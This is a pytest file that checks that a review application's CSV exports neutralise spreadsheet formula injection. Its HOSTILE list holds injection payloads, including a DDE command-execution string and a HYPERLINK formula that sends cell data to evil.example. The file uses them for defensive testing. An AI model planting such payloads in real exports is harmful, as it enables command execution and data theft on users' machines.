"""Every CSV export neutralises spreadsheet formulas in every cell (issue 10, item 12).

Three layers: the cell rule itself; a check that no module but core/csv_export.py writes
CSV (so an export added later cannot bypass it); and the real exports downloaded after
hostile text went into the data they show. The generated crawl (tests/core/test_never_500.py)
also checks every text/csv response it meets.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from c2c_safety.audit import log as audit
from c2c_safety.core.csv_export import FORMULA_STARTS, cell, to_csv
from tests.support.cases import make_case

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "＝1+1",
           '=HYPERLINK("https://evil.example/?d="&A1,"open")']


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_is_made_text(text):
    out = cell(text)
    assert isinstance(out, str) and out == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", "", 0, -5, 3.5, None])
def test_ordinary_values_are_unchanged(value):
    assert cell(value) == ("" if value is None else value)


# Modules that only READ CSV (operators' hash lists): reading cannot inject formulas into a sheet.
READERS = {"hashlists.py"}


def test_no_module_but_the_exporter_writes_csv():
    offenders = []
    for folder in ("c2c_safety", "workers"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csv_export.py" or path.name in READERS:
                continue
            tree = ast.parse(path.read_text())
            for node in ast.walk(tree):
                names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                         else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
                if "csv" in names:
                    offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def _cells(body: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body)) for c in row]


def test_to_csv_output_parses_back_with_every_cell_safe():
    body = to_csv([{"a": h, "b": h} for h in HOSTILE], ["a", "b"])
    cells = _cells(body)
    assert len(cells) == 2 + 2 * len(HOSTILE)
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)


def test_the_case_trail_and_report_exports_are_neutralised(app, client, db, signed_in):
    signed_in("independent_reviewer")
    cid = make_case(app, db)
    with app.app_context():
        for text in HOSTILE:
            audit.record(db, "case.note_added", actor_label=text, target_type=text[:32], target_id=text, case_id=cid,
                         details={"why": text})
        db.commit()
    trail = client.get(f"/review/cases/{cid}/trail.csv")
    assert trail.status_code == 200 and trail.mimetype == "text/csv"
    cells = _cells(trail.get_data(as_text=True))
    assert sum(c.lstrip("'") in HOSTILE for c in cells) >= 2 * len(HOSTILE)  # the rows are there...
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)  # ...and none would run
    report = client.get("/review/reports.csv?since=2000-01-01&until=2100-01-01")
    assert report.status_code == 200
    assert not any(c.startswith(FORMULA_STARTS) for c in _cells(report.get_data(as_text=True)))
